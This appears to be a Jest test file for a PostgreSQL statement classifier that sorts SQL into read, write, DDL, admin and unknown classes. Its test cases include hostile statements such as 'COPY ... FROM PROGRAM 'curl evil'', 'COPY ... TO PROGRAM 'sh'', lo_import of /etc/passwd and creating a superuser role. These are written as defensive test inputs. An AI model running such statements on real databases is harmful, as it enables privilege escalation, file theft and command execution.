import { classifySql } from '../../../agent/postgres/classify/classify';
import { loadParser, StatementClassifier } from '../../../agent/postgres/classify/classifier';
import { statementShape } from '../../../agent/postgres/classify/shape';

beforeAll(() => loadParser());

const CASES: [string, string][] = [
  // reads and their harmless look-alikes
  ['SELECT 1', 'read'],
  ['select * from customers where id = 5', 'read'],
  ["SELECT 'DELETE FROM customers'", 'read'],
  ["SELECT 'drop table x; update t set a=1'", 'read'],
  ['SELECT $$DELETE FROM customers$$', 'read'],
  ['SELECT $tag$ TRUNCATE orders $tag$ AS t', 'read'],
  ['SELECT 1 -- DELETE FROM customers', 'read'],
  ['SELECT /* UPDATE orders SET x = 1 */ 2', 'read'],
  ['SELECT /* nested /* DELETE */ comment */ 3', 'read'],
  ['SELECT "delete" FROM "update"', 'read'],
  ['SELECT "DROP TABLE customers" FROM t', 'read'],
  ["SELECT E'it\\'s; DELETE FROM t'", 'read'],
  ['SELECT count(*), max(amount) FROM orders GROUP BY status', 'read'],
  ['SELECT lower(email), upper(name), length(ssn) FROM customers', 'read'],
  ['SELECT now(), pg_catalog.now(), current_database()', 'read'],
  ['SELECT c.id FROM customers c JOIN orders o ON o.customer_id = c.id', 'read'],
  ['WITH x AS (SELECT * FROM orders) SELECT * FROM x', 'read'],
  ['SELECT * FROM generate_series(1, 10)', 'read'],
  ['SELECT row_number() OVER (ORDER BY id) FROM customers', 'read'],
  ['SELECT EXISTS (SELECT 1 FROM orders)', 'read'],
  ['VALUES (1), (2)', 'read'],
  ['TABLE customers', 'read'],
  ['SHOW search_path', 'read'],
  ['SHOW ALL', 'read'],
  ['EXPLAIN SELECT * FROM customers', 'read'],
  ['EXPLAIN UPDATE customers SET name = name', 'read'],
  ['EXPLAIN DELETE FROM customers', 'read'],
  ['EXPLAIN (ANALYZE false) DELETE FROM customers WHERE id = 1', 'read'],
  ['EXPLAIN (COSTS off) INSERT INTO t VALUES (1)', 'read'],
  ['COPY customers TO STDOUT', 'read'],
  ['COPY (SELECT id FROM customers) TO STDOUT WITH CSV', 'read'],
  ['SELECT pg_sleep(1)', 'read'],
  ['LISTEN channel', 'read'],
  ['FETCH 10 FROM c1', 'read'],
  ['DECLARE c1 CURSOR FOR SELECT * FROM customers', 'read'],
  ['SELECT jsonb_build_object(\'a\', 1)', 'read'],
  ['SELECT format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a', 'read'],
  ['SELECT pg_catalog.pg_get_userbyid(c.relowner) FROM pg_catalog.pg_class c', 'read'],
  ['SELECT 1; SELECT 2', 'read'],
  ['SELECT coalesce(nullif(name, \'\'), \'x\') FROM customers', 'read'],
  ['SELECT id FROM customers ORDER BY id LIMIT 10 OFFSET 5', 'read'],
  ['SELECT * FROM customers WHERE name LIKE \'%DROP%\'', 'read'],
  ['SELECT \'select nextval(1)\'', 'read'],
  ['SELECT "nextval" FROM t', 'read'],
  ['SELECT 1 AS "SET ROLE"', 'read'],
  ['SELECT * FROM orders WHERE status = \'refunded\' UNION SELECT * FROM orders WHERE amount > 10', 'read'],
  ['EXECUTE never_prepared', 'read'],
  // control
  ['BEGIN', 'control'],
  ['BEGIN ISOLATION LEVEL SERIALIZABLE', 'control'],
  ['START TRANSACTION READ ONLY', 'control'],
  ['COMMIT', 'control'],
  ['ROLLBACK', 'control'],
  ['SAVEPOINT s1', 'control'],
  ['RELEASE SAVEPOINT s1', 'control'],
  ['ROLLBACK TO SAVEPOINT s1', 'control'],
  ['SET search_path = public, app', 'control'],
  ['SET statement_timeout = 5000', 'control'],
  ["SET application_name = 'psql'", 'control'],
  ['SET LOCAL lock_timeout = \'1s\'', 'control'],
  ['SET TIME ZONE \'UTC\'', 'control'],
  ['SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'control'],
  ['RESET ALL', 'control'],
  ['RESET statement_timeout', 'control'],
  ['DISCARD ALL', 'control'],
  ['DEALLOCATE ALL', 'control'],
  ['', 'control'],
  // writes
  ["INSERT INTO orders VALUES (1, 1, 10, 'new', now())", 'write'],
  ['UPDATE customers SET name = \'x\' WHERE id = 1', 'write'],
  ['DELETE FROM orders WHERE id = 1', 'write'],
  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'write'],
  ['WITH u AS (UPDATE orders SET amount = 0 RETURNING id) SELECT count(*) FROM u', 'write'],
  ['SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM i) s', 'write'],
  ['SELECT * FROM customers FOR UPDATE', 'write'],
  ['SELECT * FROM customers FOR SHARE', 'write'],
  ['SELECT * FROM customers WHERE id IN (SELECT id FROM orders FOR UPDATE)', 'write'],
  ['MERGE INTO customers c USING orders o ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET name = \'m\'', 'write'],
  ['TRUNCATE orders', 'write'],
  ['COPY orders FROM STDIN', 'write'],
  ['EXPLAIN ANALYZE UPDATE customers SET name = name WHERE id = 1', 'write'],
  ['EXPLAIN (ANALYZE) DELETE FROM orders WHERE id = 1', 'write'],
  ['EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM orders WHERE id = 1', 'write'],
  ["SELECT nextval('orders_id_seq')", 'write'],
  ["SELECT setval('orders_id_seq', 1)", 'write'],
  ["SELECT set_config('search_path', 'public', false)", 'write'],
  // set_config(name, ...) is SET name: an admin setting stays admin, a name computed at run time is unknown.
  ["SELECT set_config('role', 'postgres', false)", 'admin'],
  ["SELECT pg_catalog.set_config('Session_Replication_Role'::text, 'replica', true)", 'admin'],
  ["UPDATE customers SET name = set_config('role', 'postgres', true) WHERE id = 1", 'admin'],
  ["SELECT set_config('ro' || 'le', 'postgres', false)", 'unknown'],
  ['SELECT pg_terminate_backend(123)', 'admin'],
  ['SELECT pg_cancel_backend(123)', 'admin'],
  ['SELECT pg_reload_conf()', 'admin'],
  ["SELECT pg_catalog.pg_read_file('postgresql.conf')", 'admin'],
  ['SELECT public.pg_reload_conf()', 'write'],
  ['SELECT lo_import(\'/etc/passwd\')', 'admin'],
  ["SELECT dblink_exec('host=x', 'drop table t')", 'write'],
  ['SELECT my_function(1)', 'write'],
  ['SELECT public.lower(name) FROM customers', 'write'],
  ['SELECT 1; DELETE FROM orders WHERE id = 2', 'write'],
  ["NOTIFY channel, 'payload'", 'write'],
  ["SELECT pg_notify('c', 'p')", 'write'],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'write'],
  ['PREPARE del(int) AS DELETE FROM orders WHERE id = $1', 'write'],
  ['INSERT INTO t SELECT * FROM customers', 'write'],
  // ddl
  ['CREATE TABLE t (id int)', 'ddl'],
  ['SELECT * INTO new_table FROM customers', 'ddl'],
  ['CREATE TABLE t2 AS SELECT * FROM customers', 'ddl'],
  ['ALTER TABLE customers ADD COLUMN x int', 'ddl'],
  ['DROP TABLE orders', 'ddl'],
  ['CREATE INDEX ON orders (status)', 'ddl'],
  ['CREATE VIEW v AS SELECT 1', 'ddl'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'ddl'],
  ['COMMENT ON TABLE customers IS \'x\'', 'ddl'],
  ['CREATE SEQUENCE s', 'ddl'],
  ['ALTER TABLE customers RENAME TO c2', 'ddl'],
  // admin
  ['SET ROLE postgres', 'admin'],
  ['RESET ROLE', 'admin'],
  ['SET SESSION AUTHORIZATION postgres', 'admin'],
  ['SET default_transaction_read_only = off', 'admin'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'admin'],
  ['SET TRANSACTION READ WRITE', 'admin'],
  ["ALTER SYSTEM SET work_mem = '1GB'", 'admin'],
  ['GRANT SELECT ON customers TO public', 'admin'],
  ['REVOKE SELECT ON customers FROM twokey_read', 'admin'],
  ['GRANT twokey_write TO twokey_read', 'admin'],
  ['CREATE ROLE evil SUPERUSER', 'admin'],
  ['ALTER ROLE twokey_read SUPERUSER', 'admin'],
  ["COPY customers TO '/tmp/x.csv'", 'admin'],
  ["COPY customers FROM '/tmp/x.csv'", 'admin'],
  ["COPY customers FROM PROGRAM 'curl evil'", 'admin'],
  ["COPY (SELECT 1) TO PROGRAM 'sh'", 'admin'],
  ['VACUUM customers', 'admin'],
  ['ANALYZE customers', 'admin'],
  ['CREATE EXTENSION dblink', 'admin'],
  ["LOAD 'plugin'", 'admin'],
  ['PREPARE TRANSACTION \'x\'', 'admin'],
  ['CREATE DATABASE x', 'admin'],
  // unknown
  ["DO $$ BEGIN DELETE FROM orders; END $$", 'unknown'],
  ['CALL my_procedure()', 'unknown'],
  ['SELEC 1', 'unknown'],
  ['SELECT (', 'unknown'],
  ["SELECT 'unterminated", 'unknown'],
  ['SET client_encoding = \'SJIS\'', 'unknown'],
  ['SET some.custom_setting = 1', 'unknown'],
  ['SELECT 1; DO $$ $$', 'unknown'],
];

describe('classifySql', () => {
  it(`has at least 100 cases`, () => expect(CASES.length).toBeGreaterThanOrEqual(100));

  it.each(CASES)('%s -> %s', (sql, expected) => {
    expect(classifySql(sql).class).toBe(expected);
  });

  it('names blockable statement kinds, tables and functions', () => {
    expect(classifySql('DELETE FROM orders').statements).toContain('delete-without-where');
    expect(classifySql('UPDATE customers SET name = 1').statements).toContain('update-without-where');
    expect(classifySql('UPDATE customers SET name = 1 WHERE id = 2').statements).toEqual([]);
    expect(classifySql('WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1').statements).toContain('delete-without-where');
    expect(classifySql('DROP TABLE x').statements).toEqual(['drop']);
    expect(classifySql('TRUNCATE x').statements).toEqual(['truncate']);
    expect(classifySql("COPY t FROM PROGRAM 'x'").statements).toEqual(['copy-program']);
    expect(classifySql('SELECT * FROM app.accounts a JOIN orders o ON true').tables).toEqual(['app.accounts', 'public.orders']);
    expect(classifySql('SELECT * FROM pg_authid').tables).toEqual(['pg_catalog.pg_authid']);
    expect(classifySql('SELECT pg_terminate_backend(1)').functions).toEqual(['pg_catalog.pg_terminate_backend']);
  });

  it('reports PREPARE, EXECUTE and DEALLOCATE for the session to track', () => {
    const c = classifySql('PREPARE del AS DELETE FROM orders WHERE id = 1; EXECUTE del; DEALLOCATE del');
    expect(c.prepares).toEqual([{ name: 'del', class: 'write' }]);
    expect(c.executes).toEqual(['del']);
    expect(c.deallocates).toEqual(['del']);
    // DISCARD ALL drops every prepared statement; DISCARD PLANS none.
    expect(classifySql('DISCARD ALL').deallocates).toBe('all');
    expect(classifySql('DEALLOCATE ALL').deallocates).toBe('all');
    expect(classifySql('DISCARD PLANS').deallocates).toEqual([]);
  });
});

describe('statement shapes', () => {
  it.each([
    ["SELECT * FROM t WHERE id = 1 AND name = 'x'", 'SELECT * FROM t WHERE id = ? AND name = ?'],
    ["SELECT 'it''s' , 3.25", 'SELECT ? , ?'],
    ['SELECT * FROM t1 WHERE c2 = $1', 'SELECT * FROM t1 WHERE c2 = $1'],
    ['SELECT "col 1", "a""b" FROM t', 'SELECT "col 1", "a""b" FROM t'],
  ])('normalizes %s', (sql, shape) => expect(statementShape(sql)).toBe(shape));

  it.each([
    ["SELECT E'x'"],
    ['SELECT $$x$$'],
    ['SELECT 1 -- c'],
    ['SELECT /* c */ 1'],
    ["SELECT 'é'"],
    ["SELECT 'a\\'"],
    ["SELECT U&'d\\0061t'"],
    ['SELECT 1e5'],
    ["SELECT B'101'"],
    ['SELECT 123abc'],
  ])('falls back to a full parse for %s', (sql) => expect(statementShape(sql)).toBeUndefined());

  it('caches by shape, but never a literal-sensitive statement', () => {
    const classifier = new StatementClassifier();
    classifier.classify('SELECT * FROM orders WHERE id = 1', true);
    classifier.classify('SELECT * FROM orders WHERE id = 2', true);
    expect(classifier.hits).toBe(1);
    expect(classifier.classify('EXPLAIN (ANALYZE 0) DELETE FROM orders WHERE id = 1', true).class).toBe('read');
    expect(classifier.classify('EXPLAIN (ANALYZE 1) DELETE FROM orders WHERE id = 1', true).class).toBe('write');
  });

  it('keeps newline-joined strings apart from space-separated ones', () => {
    expect(classifySql("SELECT 'a'\n'b'").class).toBe('read');
    expect(classifySql("SELECT 'a' 'b'").class).toBe('unknown');
    expect(statementShape("SELECT 'a'\n'b'")).not.toBe(statementShape("SELECT 'a' 'b'"));
  });
});
